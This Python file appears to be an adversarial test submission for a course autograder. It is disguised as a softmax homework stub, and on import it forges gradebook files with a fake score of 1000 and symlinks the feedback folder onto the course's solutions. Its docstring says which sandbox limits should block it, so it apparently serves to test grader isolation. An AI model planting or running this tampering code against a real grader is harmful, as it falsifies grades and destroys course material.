"""Attack: forge the grader's outputs before it writes them.

Tries: at import, in the course's grades/ folder (found through this file's parents): a
forged gradebook.json and gradebook.csv, an extra feedback file, and feedback/ replaced by
a symlink to solutions/ so that the grader writes every student's feedback there.
Would gain: a forged gradebook; feedback sent where it corrupts the course.
Must stop it: the worker cannot write outside its scratch; the grader writes its outputs
itself, atomically, after the workers are gone.
"""

import json
import os
from pathlib import Path


def _course_root():
    """The course this submission is graded in: the nearest parent folder with a course.yml."""
    for folder in Path(__file__).resolve().parents:
        if (folder / "course.yml").is_file() and (folder / "solutions").is_dir():
            return folder
    return None


def _tamper() -> None:
    root = _course_root()
    if root is None:
        return
    out = root / "grades"
    forged = {"course": "forged", "students": [{"id": "write_outputs_attack", "total": 1000.0}]}
    files = {"gradebook.json": json.dumps(forged), "gradebook.csv": "id,total\nwrite_outputs_attack,1000\n",
             "feedback/intruder.md": "# forged\n"}
    for name, text in files.items():
        try:
            (out / name).write_text(text)
        except OSError:
            pass
    try:
        os.rename(out / "feedback", out / "feedback.moved")
        os.symlink(root / "solutions", out / "feedback")
    except OSError:
        pass


_tamper()


def softmax(O):
    raise NotImplementedError


def cross_entropy(y_hat, y):
    raise NotImplementedError


def softmax_cross_entropy(O, y):
    raise NotImplementedError


def softmax_cross_entropy_grad(O, y):
    raise NotImplementedError


def accuracy(y_hat, y):
    return float((y_hat.argmax(dim=1) == y).double().mean())
